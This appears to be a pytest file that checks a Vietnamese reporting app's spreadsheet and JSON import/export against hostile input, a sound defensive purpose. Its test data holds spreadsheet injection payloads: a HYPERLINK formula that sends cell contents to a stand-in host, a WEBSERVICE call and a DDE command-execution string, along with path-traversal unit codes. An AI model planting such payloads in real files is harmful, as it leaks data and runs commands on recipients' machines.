"""What a hostile test found (issue 17), each reproduced: it failed before the fix, and passes after.

Nothing received is accepted that the receiving office could not defend, nothing already
accepted is lost, and the clerk is told why in Vietnamese.
"""

from __future__ import annotations

import json
import os
import stat
import zipfile

import pytest
from conftest import catalog_of, new_report
from openpyxl import load_workbook

from desktop.exchange.interchange import export_report, import_report, read_document
from desktop.exchange.xlsx import import_xlsx, write_xlsx
from desktop.foundation.messages import CchcError
from desktop.report.ops import enter_cells
from desktop.store.db import Store
from test_export_xlsx import FORM_5B, _fill, _report

HOSTILE_TEXTS = ['=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', '=WEBSERVICE("http://x.invalid")',
                 "=cmd|' /C calc'!A0", "=1+1"]


# --- spreadsheets ------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_text_that_looks_like_a_formula_is_written_as_text_and_reads_back(tmp_path, store, text):
    catalog, report = _report(tmp_path, store)
    _fill(store, catalog, report)
    enter_cells(store, catalog, report, "5B", [("unit:H1.X1", "ghi_chu", text)])
    store.update_report(report, subject=text)
    path = write_xlsx(store, catalog, report, tmp_path / "bc.xlsx")
    book = load_workbook(path)
    live = [(s.title, c.coordinate) for s in book.worksheets for row in s.iter_rows() for c in row
            if c.data_type == "f" and not str(c.value).startswith(("=SUM(", "=D", "=C", "=E"))]
    assert live == []  # only the form's own sums and identities are formulas
    cell = next(c for row in book["Biểu mẫu 5B"].iter_rows() for c in row if c.value == text)
    assert cell.data_type == "s"
    before = store.cells(report)
    assert import_xlsx(store, catalog, report, path) == []  # the app's own export reads back unchanged
    assert store.cells(report) == before


def test_a_cached_value_that_disagrees_with_its_formula_is_not_believed(tmp_path, store):
    """Our own formula "=D12+E12", cached as 5000 by whatever saved the file last: the import
    computes it from D12 and E12 instead of taking the 5000."""
    catalog, report = _report(tmp_path, store)
    _fill(store, catalog, report)
    path = write_xlsx(store, catalog, report, tmp_path / "bc.xlsx")
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info.filename) for info in archive.infolist()}
    sheet = next(name for name, content in members.items() if b"<f>D12+E12</f><v></v>" in content)
    members[sheet] = members[sheet].replace(b"<f>D12+E12</f><v></v>", b"<f>D12+E12</f><v>5000</v>")
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    assert load_workbook(path, data_only=True)["Biểu mẫu 5B"]["C12"].value == 5000  # what the file claims
    assert import_xlsx(store, catalog, report, path) == []
    assert store.cells(report)["5B"]["unit:H1.X1"]["tong"] == "1562"


@pytest.mark.parametrize("formula", ["=1+1", "='[khac.xlsx]Biểu mẫu 5B'!C12", '=WEBSERVICE("http://x.invalid")'])
def test_a_formula_the_form_does_not_have_is_refused_and_nothing_changes(tmp_path, store, formula):
    catalog, report = _report(tmp_path, store)
    _fill(store, catalog, report)
    path = write_xlsx(store, catalog, report, tmp_path / "bc.xlsx")
    book = load_workbook(path)
    book["Biểu mẫu 5B"]["E12"] = formula
    book.save(path)
    before = store.cells(report)
    with pytest.raises(CchcError) as refused:
        import_xlsx(store, catalog, report, path)
    assert refused.value.code == "XLSX009" and "E12" in str(refused.value)
    assert store.cells(report) == before


# --- interchange documents ----------------------------------------------------------------


def _document(tmp_path, store):
    catalog = catalog_of(tmp_path, {"5b.yaml": FORM_5B})
    report = new_report(store, communes=2)
    _fill(store, catalog, report)
    return catalog, export_report(store, catalog, report)


@pytest.mark.parametrize("status", ["da_ky", "da_nop"])
def test_a_document_cannot_make_a_report_signed_without_its_signature(tmp_path, store, status):
    catalog, document = _document(tmp_path, store)
    document["report"]["status"] = status
    with Store.open(tmp_path / "khac.db") as other:
        with pytest.raises(CchcError) as refused:
            import_report(other, catalog, document)
        assert refused.value.code == "JSON009" and other.reports() == []


@pytest.mark.parametrize("where, code", [
    (("unit", "code"), "../../PWNED"), (("unit", "code"), "C:\\x"), (("unit", "code"), "a/b"),
    (("unit", "code"), ""), (("child_units", 0, "code"), "../x"),
])
def test_unit_codes_that_could_become_paths_are_refused(tmp_path, store, where, code):
    catalog, document = _document(tmp_path, store)
    target = document
    for key in where[:-1]:
        target = target[key]
    target[where[-1]] = code
    with Store.open(tmp_path / "khac.db") as other:
        with pytest.raises(CchcError):
            import_report(other, catalog, document)
        assert other.reports() == [] and other.units() == []


def test_a_unit_cannot_be_its_own_parent_or_child(tmp_path, store):
    catalog, document = _document(tmp_path, store)
    own = dict(document["unit"], parent=None)
    for change in (lambda d: d["unit"].update(parent=dict(own)),
                   lambda d: d["child_units"].append({k: own[k] for k in ("code", "name", "level")})):
        changed = json.loads(json.dumps(document))
        change(changed)
        with Store.open(tmp_path / "khac.db") as other:
            with pytest.raises(CchcError) as refused:
                import_report(other, catalog, changed)
            assert refused.value.code == "JSON002" and other.units() == []
    with pytest.raises(CchcError) as refused:
        store.add_unit("X9", "Xã chín", "xa", "X9")
    assert refused.value.code == "STORE018"


@pytest.mark.parametrize("field, value", [("subject", "a" * 10_000_000), ("subject", "a" * 2_001),
                                          ("doc_number", "1" * 101), ("place", "x" * 201)])
def test_text_fields_no_report_needs_that_long_are_refused(tmp_path, store, field, value):
    catalog, document = _document(tmp_path, store)
    document["report"][field] = value
    with Store.open(tmp_path / "khac.db") as other:
        with pytest.raises(CchcError) as refused:
            import_report(other, catalog, document)
        assert refused.value.code == "JSON002" and field in str(refused.value)


def test_a_cell_text_no_report_needs_that_long_is_refused(tmp_path, store):
    catalog, document = _document(tmp_path, store)
    document["forms"]["5B"]["cells"]["unit:H1.X1"]["ghi_chu"] = "x" * 100_001
    with Store.open(tmp_path / "khac.db") as other:
        with pytest.raises(CchcError) as refused:
            import_report(other, catalog, document)
        assert refused.value.code == "JSON005"


@pytest.mark.parametrize("where, value", [
    (("report", "version"), 2 ** 70), (("period", "year"), 10 ** 25), (("period", "year"), -5),
    (("form_set", "version"), 2 ** 64), (("period", "number"), 2 ** 63), (("period", "year_from"), 10 ** 30),
])
def test_numbers_too_large_for_their_field_get_a_message(tmp_path, store, where, value):
    catalog, document = _document(tmp_path, store)
    document[where[0]][where[1]] = value
    with Store.open(tmp_path / "khac.db") as other:
        with pytest.raises(CchcError) as refused:
            import_report(other, catalog, document)
        assert refused.value.code in ("JSON002", "JSON004") and other.reports() == []


def test_a_document_with_a_byte_order_mark_reads(tmp_path, store):
    catalog, document = _document(tmp_path, store)
    path = tmp_path / "bc.json"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(document, ensure_ascii=False).encode("utf-8"))
    assert read_document(path)["format"] == "cchc-report"


# --- the store -------------------------------------------------------------------------------


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX's; Windows keeps the profile's ACL")
def test_keys_databases_and_backups_are_readable_by_their_owner_only(tmp_path):
    from conftest import cli

    with Store.open(tmp_path / "data.db", user="kiemthu") as store:
        store.add_unit("H1", "Huyện Thử", "huyen")
        backup = store.backup("thu")
    (tmp_path / "mk.txt").write_text("mat-khau-rat-dai\n", encoding="utf-8")
    assert cli("--db", str(tmp_path / "data.db"), "new-certificate", "--unit", "H1", "--passphrase-file",
               str(tmp_path / "mk.txt"), "-o", str(tmp_path / "h1.p12"))[0] == 0
    for path in (tmp_path / "data.db", tmp_path / "data.db-wal", backup, tmp_path / "h1.p12"):
        if path.exists():
            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path.name
    assert (tmp_path / "h1.p12").exists() and backup.exists()


def test_a_scratch_store_in_memory_leaves_no_backup_folder_behind(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with Store.open(":memory:", daily_backup=False) as scratch:
        scratch.add_unit("H1", "Huyện Thử", "huyen")
        assert scratch.backup("truoc-nhap") is None
    assert list(tmp_path.iterdir()) == []
